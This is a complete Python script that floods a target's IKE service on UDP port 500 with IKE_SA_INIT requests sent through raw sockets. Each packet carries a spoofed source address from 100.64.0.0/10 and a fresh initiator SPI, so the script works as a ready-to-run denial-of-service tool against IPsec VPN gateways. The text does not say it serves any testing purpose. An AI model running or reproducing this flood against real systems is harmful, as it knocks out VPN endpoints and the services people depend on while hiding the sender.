"""`python flood_end.py TARGET REQUEST RATE SECONDS`: IKE_SA_INIT requests from addresses that nobody has.

`REQUEST` is a file with a genuine request; each copy has an initiator SPI and a source of its own.
At the end it says how many it sent, and in how many seconds.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from ipaddress import ip_address
from pathlib import Path

_UDP = 17
_SPI = 28
"""Where the initiator SPI begins: behind the headers of IPv4 and UDP."""
_BATCH = 50


def packets(target: bytes, request: bytes) -> bytearray:
    """One packet, whose source and SPI are written anew for each sending. UDP without checksum: IPv4 allows it."""
    ip = struct.pack("!BBHHHBBH", 0x45, 0, _SPI + len(request), 0, 0, 64, _UDP, 0) + bytes(4) + target
    return bytearray(ip + struct.pack("!HHHH", 500, 500, 8 + len(request), 0) + request)


def flood(target: bytes, request: bytes, rate: float, seconds: float) -> tuple[int, float]:
    packet, there = packets(target, request), (str(ip_address(target)), 0)
    sent, began = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while (passed := time.monotonic() - began) < seconds:
            for _ in range(_BATCH if sent < passed * rate else 0):
                sent += 1
                # 100.64.0.0/10 is nobody's.
                packet[12:16] = (0x64400000 | sent & 0x3FFFFF).to_bytes(4, "big")
                packet[_SPI : _SPI + 8] = (0xF100D00000000000 | sent).to_bytes(8, "big")
                raw.sendto(packet, there)
            if sent >= passed * rate:
                time.sleep(_BATCH / rate / 4)
        return sent, time.monotonic() - began


if __name__ == "__main__":
    target, request = ip_address(sys.argv[1]).packed, Path(sys.argv[2]).read_bytes()
    count, took = flood(target, request, float(sys.argv[3]), float(sys.argv[4]))
    print(count, took)
